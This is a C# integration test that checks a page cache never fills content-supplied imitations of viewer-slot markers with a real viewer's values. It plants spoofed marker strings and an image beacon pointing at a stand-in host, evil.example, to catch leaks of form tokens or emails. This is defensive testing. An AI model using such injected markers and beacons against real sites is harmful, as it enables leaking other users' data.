using System.Text.RegularExpressions;
using Antonio.Data.Seeding;
using Antonio.Tests.Infrastructure;
using Antonio.Web.Caching;
using Antonio.Web.PageCaching;
using Microsoft.EntityFrameworkCore;

namespace Antonio.Tests.Integration;

/// <summary>
/// Issue #26.2: a shared page's viewer slots are marked with a secret no content knows, so content that imitates a
/// marker — in a lesson body, a title, a description — is shown as the text it is, never filled with a viewer's value.
/// </summary>
[Trait("Category", "Integration")]
public sealed class SlotMarkerTests(WritableDatabaseFixture fixture) : IClassFixture<WritableDatabaseFixture>, IAsyncLifetime
{
    private TestApp _app = null!;
    public async Task InitializeAsync() => _app = await TestApp.StartAsync(fixture.Database);
    public async Task DisposeAsync() => await _app.DisposeAsync();

    private const string LessonBody = "class=\"prose lesson-body\"";

    [Fact]
    public async Task Content_that_imitates_a_slot_marker_comes_out_literally_and_never_carries_a_viewer_value()
    {
        var slots = _app.Service<IEnumerable<IViewerSlotSource>>().SelectMany(s => s.Slots).ToList();
        Assert.Contains("af", slots); // the form token
        var workshop = await SeededData.WorkshopAsync(fixture.Database, 1);
        var lesson = SeededData.PaidLesson(workshop);
        var path = $"/workshops/{workshop.Slug}/{lesson.Lesson.Slug}";
        // Every slot's marker as the template once spelled it (the spelling is public), with an argument, with a guessed
        // secret, and a slot nobody fills (it answered 500 to every reader).
        var markers = slots.SelectMany(s => new[] { $"x-vh-{s}--hv-x", $"x-vh-{s}-{lesson.Lesson.Id:N}-hv-x", $"x-vh-{new string('0', 32)}-{s}--hv-x" })
            .Append("x-vh-bogus--hv-x").ToList();
        var text = string.Join(" ", markers);
        var beacon = $"https://evil.example/{markers[0]}/x.png";
        await EditAsync(lesson.Lesson.Id, "body", $"Hostile: {text}\n\n![p]({beacon})");
        await EditAsync(lesson.Lesson.Id, "title", "Title " + text);
        await EditAsync(workshop.Id, "description", "Description " + text);

        string[] viewers = [DemoAccounts.Buyer, DemoAccounts.BundleBuyer];
        foreach (var email in viewers)
        {
            using var viewer = await WebUser.SignedInAsync(_app, email);
            foreach (var _ in new[] { "miss or template", "template" })
            {
                var page = await viewer.GetAsync(path);
                Assert.Equal(200, page.Status);
                Assert.Contains(LessonBody, page.Body);
                foreach (var marker in markers) Assert.Contains(marker, page.Body);
                Assert.Contains($"src=\"{beacon}\"", page.Body);
                foreach (var other in viewers.Where(v => v != email))
                    Assert.DoesNotMatch("(?<![\\w.-])" + Regex.Escape(other), page.Body);
            }
        }
    }

    private async Task EditAsync(Guid id, string field, string value)
    {
        await using (var db = fixture.Database.CreateContext())
            await db.Database.ExecuteSqlRawAsync("UPDATE content_resources SET fields = jsonb_set(fields, ARRAY[{0}], to_jsonb({1}::text)) WHERE id = {2}", field, value, id);
        await _app.Service<CacheInvalidator>().ContentChangedAsync(id);
    }
}
